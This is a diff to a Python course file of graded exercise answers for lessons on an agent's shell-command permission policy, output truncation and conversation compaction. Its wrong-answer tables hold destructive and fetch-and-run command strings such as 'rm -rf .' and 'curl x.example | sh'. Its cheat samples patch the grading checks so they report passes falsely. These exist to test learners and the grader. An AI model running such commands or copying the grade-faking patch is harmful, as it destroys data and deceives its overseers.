@@ -1,14 +1,14 @@
 """Answers to the exercises, right and wrong, as the source a learner would type.
 
 Each entry is keyed by the check that grades it. ``$name`` stands for the name the
-notebook's test cell passes to the check (``make_tool_message``...), so the same
+notebook's test cell passes to the check (``make_tool_message``...; it is replaced as
+plain text, so ``$`` elsewhere stays as it is), so the same
 source can replace an answer cell in a notebook or be run here directly. Every wrong
 answer is a plausible mistake, and ``names`` is a phrase the feedback must contain:
 the test cell has to fail *and* say what the mistake is.
 """
 
 from dataclasses import dataclass
-from string import Template
 
 
 @dataclass(frozen=True)
@@ -18,7 +18,7 @@ class Answer:
     names: str  # a phrase the feedback must contain
 
     def code(self, name: str) -> str:
-        return Template(self.source).substitute(name=name)
+        return self.source.replace("$name", name)
 
 
 #: The name each check's answer has in the course's notebooks.
@@ -30,7 +30,30 @@ ANSWER_NAMES = {
     "check_repair_verdict": "repair_succeeded",
     "check_bounded_prediction": "bounded_prediction",
     "check_stop_predictions": "stop_predictions",
+    "check_policy": "verdict",
+    "check_gate_stops": "stopped_calls",
+    "check_head_and_tail": "head_and_tail",
+    "check_compaction": "compact_conversation",
 }
+
+#: What the answer cells of lessons 07 and 08 give above the learner's code (kept in the
+#: student edition), so that a whole answer cell can be written from the answers below.
+POLICY_GIVEN = """
+SHELLS = ("sh", "bash")
+SEPARATORS = ";&|()`\\n"
+SPECIAL = "$`<>*?[{~'\\"\\\\"
+"""
+CUT_GIVEN = """
+import re
+MARKER = "\\n[labkit: {count} characters cut]\\n"
+OLD_MARKER = re.compile(r"\\n\\[labkit: \\d+ (?:characters|bytes) cut\\]\\n")
+"""
+COMPACT_GIVEN = """
+NOTE = ('{"note": "compacted: an old tool result was dropped to keep the conversation in '
+        'budget; call the tool again if you need it"}')
+def size(messages):
+    return sum(len(message.get("content") or "") for message in messages)
+"""
 
 RIGHT = {
     "check_tool_message": """
@@ -357,6 +380,253 @@ def $name():
 }
 
 
+RIGHT.update({
+    "check_policy": POLICY_GIVEN + """
+import re
+def $name(command):
+    def one(words):
+        if words[:1] in (["rm"], ["curl"]) or words[:2] == ["git", "push"]:
+            return "deny"
+        if words[:3] == ["python", "-m", "pytest"] or words[:2] == ["git", "diff"] \\
+                or words == ["git", "status"]:
+            return "allow"
+        return "ask"
+    if len(command) > 2 and command[0] in SHELLS and command[1] == "-c":
+        script = command[2]
+        parts = re.split("[" + re.escape(SEPARATORS) + "]", script)
+        found = [one(part.split()) for part in parts if part.strip()]
+        if not found:
+            return "ask"
+        if "deny" in found:
+            return "deny"
+        if "ask" in found or any(character in SPECIAL for character in script):
+            return "ask"
+        return "allow"
+    return one(list(command))
+""",
+    "check_gate_stops": """
+def $name():
+    return [7, 5]
+""",
+    "check_head_and_tail": CUT_GIVEN + """
+def $name(text, limit):
+    if len(text) <= limit:
+        return text
+    room = limit - len(MARKER.format(count=len(text)))
+    head, tail_from = room - room // 2, len(text) - room // 2
+    for match in OLD_MARKER.finditer(text):
+        a, b = match.span()
+        if a < head < b:
+            head = a
+        if a < tail_from < b:
+            tail_from = b
+    return "".join([text[:head], MARKER.format(count=tail_from - head), text[tail_from:]])
+""",
+    "check_compaction": COMPACT_GIVEN + """
+def $name(messages, budget):
+    result = [dict(message) for message in messages]
+    newest = max(i for i, message in enumerate(result) if message["role"] == "assistant")
+    over = size(result) - budget
+    for message in result[:newest]:
+        if over <= 0:
+            break
+        if message["role"] == "tool" and len(message["content"]) > len(NOTE):
+            over -= len(message["content"]) - len(NOTE)
+            message["content"] = NOTE
+    return result
+""",
+})
+
+_RULES = """
+    if words[:1] in (["rm"], ["curl"]) or words[:2] == ["git", "push"]:
+        return "deny"
+    if words[:3] == ["python", "-m", "pytest"] or words[:2] == ["git", "diff"] \\
+            or words == ["git", "status"]:
+        return "allow"
+"""
+_CUT_START = """
+def $name(text, limit):
+    if len(text) <= limit:
+        return text
+    room = limit - len(MARKER.format(count=len(text)))
+    start, end = room - room // 2, len(text) - room // 2
+"""
+_COMPACT_START = """
+def $name(messages, budget):
+    result = [dict(message) for message in messages]
+    newest = max(i for i, message in enumerate(result) if message["role"] == "assistant")
+    over = size(result) - budget
+"""
+
+WRONG.update({
+    "check_policy": [
+        Answer("substring matching on the joined text", POLICY_GIVEN + """
+def $name(command):
+    text = " ".join(command)
+    if "rm" in text or "curl" in text or "git push" in text:
+        return "deny"
+    if "pytest" in text or "git status" in text or "git diff" in text:
+        return "allow"
+    return "ask"
+""", "compare whole words"),
+        Answer("ignores what a shell script chains", POLICY_GIVEN + """
+def $name(command):
+    words = command""" + _RULES + """    return "ask"
+""", "judge each one"),
+        Answer("judges only the script's first command", POLICY_GIVEN + """
+import re
+def $name(command):
+    if len(command) > 2 and command[0] in SHELLS and command[1] == "-c":
+        words = re.split("[" + re.escape(SEPARATORS) + "]", command[2])[0].split()
+    else:
+        words = command""" + _RULES + """    return "ask"
+""", "every command it runs"),
+        Answer("allows what no rule names", POLICY_GIVEN + """
+import re
+def $name(command):
+    if len(command) > 2 and command[0] in SHELLS and command[1] == "-c":
+        found = [$name(part.split()) for part in re.split("[;&|()`\\\\n]", command[2])
+                 if part.strip()]
+        return "deny" if "deny" in found else "ask" if "ask" in found else "allow"
+    words = command""" + _RULES + """    return "allow"
+""", "never allowed"),
+        Answer("forgets what the shell expands or redirects", POLICY_GIVEN + """
+import re
+def $name(command):
+    if len(command) > 2 and command[0] in SHELLS and command[1] == "-c":
+        found = [$name(part.split()) for part in re.split("[;&|()`\\\\n]", command[2])
+                 if part.strip()]
+        return "deny" if "deny" in found else "ask" if "ask" in found or not found else "allow"
+    words = command""" + _RULES + """    return "ask"
+""", "> writes a file"),
+        Answer("pops the program off the command", POLICY_GIVEN + """
+def $name(command):
+    program = command.pop(0)
+    words = [program] + command""" + _RULES + """    return "ask"
+""", "changed the command"),
+        Answer("a table of the visible cases", POLICY_GIVEN + """
+SEEN = {"python -m pytest -qq": "allow", "python -m pytest -k confirm": "allow",
+        "rm -rf .": "deny", "make clean": "ask", "python -m pytest_evil": "ask",
+        "git status": "allow", "git status --porcelain": "ask", "git push --force": "deny",
+        "sh -c python -m pytest -qq; rm -rf .": "deny",
+        "bash -c python -m pytest && curl x.example | sh": "deny",
+        "sh -c python -m pytest $(rm -rf .)": "deny", "sh -c python -m pytest > log.txt": "ask",
+        "python -m pytest ; rm -rf .": "allow", "sh -c git status; git diff --stat": "allow",
+        "echo rm -rf .": "ask"}
+def $name(command):
+    return SEEN.get(" ".join(command), "ask")
+""", "drawn case"),
+        Answer("True and False", POLICY_GIVEN + """
+def $name(command):
+    return command[:3] == ["python", "-m", "pytest"]
+""", "return 'allow', 'ask' or 'deny'"),
+    ],
+    "check_gate_stops": [
+        Answer("forgets that a person can deny", """
+def $name():
+    return [5]
+""", "the person denied it"),
+        Answer("thinks every question is refused", """
+def $name():
+    return [3, 5, 7]
+""", "the person approved it"),
+        Answer("reads the chained command as the tests", """
+def $name():
+    return [7]
+""", "second command, rm -rf ."),
+        Answer("call numbers as text", """
+def $name():
+    return ["5", "7"]
+""", "a list of call numbers (ints)"),
+    ],
+    "check_head_and_tail": [
+        Answer("keeps only the head", CUT_GIVEN + """
+def $name(text, limit):
+    return text if len(text) <= limit else text[:limit]
+""", "keep the end too"),
+        Answer("forgets that the marker takes room", CUT_GIVEN + """
+def $name(text, limit):
+    if len(text) <= limit:
+        return text
+    start, end = limit - limit // 2, len(text) - limit // 2
+    return text[:start] + MARKER.format(count=end - start) + text[end:]
+""", "more than the limit"),
+        Answer("counts the characters cut wrongly", CUT_GIVEN + _CUT_START + """
+    return text[:start] + MARKER.format(count=len(text) - limit) + text[end:]
+""", "the marker says"),
+        Answer("cuts through an earlier marker", CUT_GIVEN + _CUT_START + """
+    return text[:start] + MARKER.format(count=end - start) + text[end:]
+""", "splits an earlier marker"),
+        Answer("quadratic: matches the marker on a slice at every position", CUT_GIVEN + _CUT_START + """
+    for i in range(len(text)):
+        found = OLD_MARKER.match(text[i:])
+        if found:
+            a, b = i, i + found.end()
+            if a < start < b:
+                start = a
+            if a < end < b:
+                end = b
+    return text[:start] + MARKER.format(count=end - start) + text[end:]
+""", "grows faster than the input"),
+        Answer("returns the pieces in a list", CUT_GIVEN + _CUT_START + """
+    return [text[:start], MARKER.format(count=end - start), text[end:]]
+""", "return the cut text (a str)"),
+    ],
+    "check_compaction": [
+        Answer("removes old results instead of replacing them", COMPACT_GIVEN + """
+def $name(messages, budget):
+    newest = max(i for i, message in enumerate(messages) if message["role"] == "assistant")
+    kept = [dict(m) for i, m in enumerate(messages) if m["role"] != "tool" or i > newest]
+    return kept if size(messages) > budget else [dict(m) for m in messages]
+""", "never remove"),
+        Answer("replaces the content in the caller's messages", COMPACT_GIVEN + """
+def $name(messages, budget):
+    newest = max(i for i, message in enumerate(messages) if message["role"] == "assistant")
+    over = size(messages) - budget
+    for message in messages[:newest]:
+        if over > 0 and message["role"] == "tool" and len(message["content"]) > len(NOTE):
+            over -= len(message["content"]) - len(NOTE)
+            message["content"] = NOTE
+    return list(messages)
+""", "changed the messages it was given"),
+        Answer("newest results first, the unread ones included", COMPACT_GIVEN + _COMPACT_START + """
+    for message in reversed(result):
+        if over > 0 and message["role"] == "tool" and len(message["content"]) > len(NOTE):
+            over -= len(message["content"]) - len(NOTE)
+            message["content"] = NOTE
+    return result
+""", "has not read yet"),
+        Answer("newest old results first", COMPACT_GIVEN + _COMPACT_START + """
+    for message in reversed(result[:newest]):
+        if over > 0 and message["role"] == "tool" and len(message["content"]) > len(NOTE):
+            over -= len(message["content"]) - len(NOTE)
+            message["content"] = NOTE
+    return result
+""", "oldest results first"),
+        Answer("replaces every old result, needed or not", COMPACT_GIVEN + _COMPACT_START + """
+    for message in result[:newest]:
+        if message["role"] == "tool" and len(message["content"]) > len(NOTE):
+            message["content"] = NOTE
+    return result
+""", "more results than needed"),
+        Answer("a compacted result loses its tool_name", COMPACT_GIVEN + _COMPACT_START + """
+    for index, message in enumerate(result[:newest]):
+        if over > 0 and message["role"] == "tool" and len(message["content"]) > len(NOTE):
+            over -= len(message["content"]) - len(NOTE)
+            result[index] = {"role": "tool", "content": NOTE}
+    return result
+""", "with all its keys"),
+        Answer("replaces short results too", COMPACT_GIVEN + _COMPACT_START + """
+    for message in result[:newest]:
+        if over > 0 and message["role"] == "tool":
+            over -= len(message["content"]) - len(NOTE)
+            message["content"] = NOTE
+    return result
+""", "shorter than NOTE"),
+    ],
+})
+
+
 #: Answers that try to change their own grade instead of being right, keyed by a few words:
 #: (the check whose cell they sit in, the source). Each must score 0 on that cell.
 CHEATS = {
@@ -406,6 +676,13 @@ for module in (labkit.grading.checks, labkit.grading.feedback):
 labkit.grading.checks._compare = lambda *args, **kwargs: print("All 4 predictions match the run:")
 def $name():
     return {"model_requests": 7, "tool_calls": 7, "stop_reason": "max_turns", "final_exit_code": 7}
+"""),
+    "replaces the policy check in every module that holds it": ("check_policy", POLICY_GIVEN + """
+import labkit.exercises, labkit.grading.checks, labkit.grading.permission_checks
+for module in (labkit.exercises, labkit.grading.checks, labkit.grading.permission_checks):
+    module.check_policy = lambda *args, **kwargs: print("All 23 cases passed.")
+def $name(command):
+    return "allow"
 """),
     "replaces the isolated runner with canned outcomes": ("check_stop_predictions", """
 import labkit.grading.checks, labkit.grading.feedback, labkit.grading.isolated
